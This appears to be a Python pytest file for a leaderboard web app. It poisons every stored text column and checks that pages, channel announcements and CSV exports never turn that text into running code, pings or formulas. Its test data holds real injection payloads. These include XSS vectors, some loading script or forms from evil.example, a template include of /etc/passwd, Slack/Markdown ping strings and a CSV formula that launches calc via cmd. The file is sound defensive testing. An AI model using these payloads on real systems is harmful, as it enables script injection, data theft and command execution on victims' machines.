"""P25 and P31: stored text never becomes code, a ping or a formula, whoever wrote it and wherever it comes out."""

import csv
import io
import re
from collections.abc import Callable, Iterator
from itertools import cycle

import pytest
from flask import Flask
from playwright.sync_api import Browser, Page
from sqlmodel import select

from leaderboard import announcements, recognition
from leaderboard.database import Database
from leaderboard.tables import ClosedWeek, Person
from leaderboard.web.export import STARTS
from tests import make
from tests.full import Full, app, full
from tests.make import Company
from tests.poison import poison, unnamed
from tests.visitor import Visitor
from tests.web.test_browser import address
from tests.web.test_permissions import MATRIX

__all__ = ["address", "app", "full"]
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</textarea></title></style></script><script src=//evil.example/x.js></script>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href=//evil.example/>',
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input type=submit hx-get=//evil.example hx-trigger=load>",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7}",
    "javascript:alert(1)",
)
"""Ways in which text becomes code in a page."""
PINGS = "<!channel> <!here> <@U024BE7LH> @everyone @here @channel @room <users/all> [free](https://evil.example) ![x](https://evil.example/x.png)"
FORMULAS = ("=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "－2", " =1")


def shown(full: Full, *, csv_files: bool = False) -> Iterator[str]:
    """Every page that people open in a browser, or every file."""
    for rows in MATRIX.values():
        for rule, methods in rows.items():
            machine = rule.startswith(("/api/", "/hooks", "/static", "/healthz", "/metrics", "/sign-in"))
            if machine or "GET" not in methods.split() or "<token>" in rule or rule == "/first-run":
                continue
            if rule.endswith(".csv") is csv_files:
                yield full.address(rule)
                if rule.startswith("/weeks/"):
                    yield full.address(rule) + "?team=care"
    if not csv_files:
        yield from (f"/stories/{full.accepted}", f"/stories/{full.names['declined']}")
        yield from (f"/promises/{full.names['kept']}", f"/admin/deliveries/{full.more['broken']}")


# ---------------------------------------------------------------- pages


def test_no_stored_text_becomes_code_in_a_browser(
    full: Full,
    db: Database,
    browser: Browser,
    address: str,
    client_of: Callable[[str], Visitor],
) -> None:
    """Every page that shows such a text, in a browser: no dialog, no element or attribute of it, no request elsewhere."""
    assert unnamed() == [], "every column of text is known to be free or fixed"
    columns: set[str] = set()

    def words(column: str) -> str:
        columns.add(column)
        return f"⸘{column}⸙ " + " ".join(SCRIPTS)

    assert poison(db, words) > 60
    seen: set[str] = set()
    opened = 0
    for handle in ("ada", "ana", "lea", "chris"):
        visitor = client_of(handle)
        cookie = visitor.get_cookie("extra_mile")
        assert cookie is not None
        context = browser.new_context()
        context.add_cookies([{"name": "extra_mile", "value": cookie.value, "url": address}])
        page = context.new_page()
        wrong: list[str] = []
        page.on("dialog", lambda dialog, wrong=wrong: (wrong.append(dialog.message), dialog.dismiss()))
        page.on(
            "request", lambda asked, wrong=wrong: asked.url.startswith(address) or wrong.append(asked.url)
        )
        page.on("console", lambda said, wrong=wrong: said.type == "error" and wrong.append(said.text))
        for path in shown(full):
            if columns - seen == NOT_ON_PAGES or (handle != "ada" and path.startswith("/admin")):
                continue
            answer = visitor.get(path)
            assert answer.status_code < 500, path
            found = set(re.findall("⸘([a-z_.]+)⸙", answer.text)) - seen
            if found:  # a browser opens what shows a column that no page before showed
                seen |= found
                opened += 1
                page.goto(address + path)
                assert planted_in(page) == [], (path, found)
                assert wrong == [], (path, found)
        context.close()
    assert opened >= 10
    assert columns - seen == NOT_ON_PAGES


NOT_ON_PAGES = {"recognition.dropped_reason"}
"""Columns that no page shows (to anybody, so far)."""


def planted_in(page: Page) -> list[str]:
    """What stands in the page that no template of ours writes."""
    return list(
        page.evaluate(
            """() => [...document.querySelectorAll('*')].filter(one =>
                (one.matches('script') && !new URL(one.src, location).href.startsWith(location.origin))
                || one.matches('iframe, base, math, mglyph, style, noscript p, object, embed')
                || one.matches('img[src="x"], img:not([alt])')
                || [...one.attributes].some(at => /^on/i.test(at.name) || /^\\s*javascript:/i.test(at.value)
                    && at.name !== 'value' && at.name !== 'content' && at.name !== 'title'
                    || /^hx-(get|post)$/.test(at.name) && at.value.includes('evil'))
                || (one.matches('meta[http-equiv], link, a, form, area')
                    && /evil\\.example/.test(one.getAttribute('href') || one.getAttribute('action') || one.content || ''))
            ).map(one => one.outerHTML.slice(0, 200))"""
        )
    )


# ---------------------------------------------------------------- messages


def test_no_stored_text_pings_or_links_in_a_message(
    full: Full, app: Flask, db: Database, company: Company, clock: make.Clock
) -> None:
    """What channels and letters get: the announcement of a week in which every text tries."""
    poison(db, lambda column: PINGS + " " + SCRIPTS[0])
    with db.writing() as session:
        closed = session.exec(select(ClosedWeek).where(ClosedWeek.team_id == company.teams["Care"])).one()
        closed.announced_at = None
        session.add(closed)
        session.flush()
        announcements.add_channel(session, company.teams["Care"], "email", "Another", "x@example.com")
        lea = session.get_one(Person, company["lea"])
        recognition.announce(session, app.extensions["config"], closed.id or 0, clock(), lea)
        row, _ = announcements.of_week(session, closed.id or 0)[-1]
        sent = announcements.clean_subject(row.subject) + "\n" + row.body
    assert sent.count("evil.example") > 3, "the texts are in it"
    assert re.findall(r"[<>]|@(?!\u200b)|\]\(|\]:", sent) == []


# ---------------------------------------------------------------- files


def test_no_stored_text_becomes_a_formula_in_a_file(
    full: Full, db: Database, client_of: Callable[[str], Visitor]
) -> None:
    """Every CSV file, with a text like a formula in every column that people, tools or errors write."""
    cells = found = 0
    visitors = {handle: client_of(handle) for handle in ("ada", "ana", "lea")}
    for first in range(3):
        formulas = cycle(FORMULAS[first:] + FORMULAS[:first])
        poison(db, lambda column, formulas=formulas: next(formulas))
        for handle in visitors if first == 0 else ("ada",):
            for path in shown(full, csv_files=True):
                answer = visitors[handle].get(path)
                if answer.status_code != 200:
                    continue
                for row in csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")):
                    for cell in row:
                        cells += 1
                        found += cell.startswith("'")
                        plain = cell.lstrip(" \u00a0\u3000")
                        assert not plain.startswith(tuple(STARTS)) or re.fullmatch(r"-?\d+", cell), (
                            path,
                            cell,
                        )
    assert cells > 1000
    assert found > 100, "the formulas are in the files"
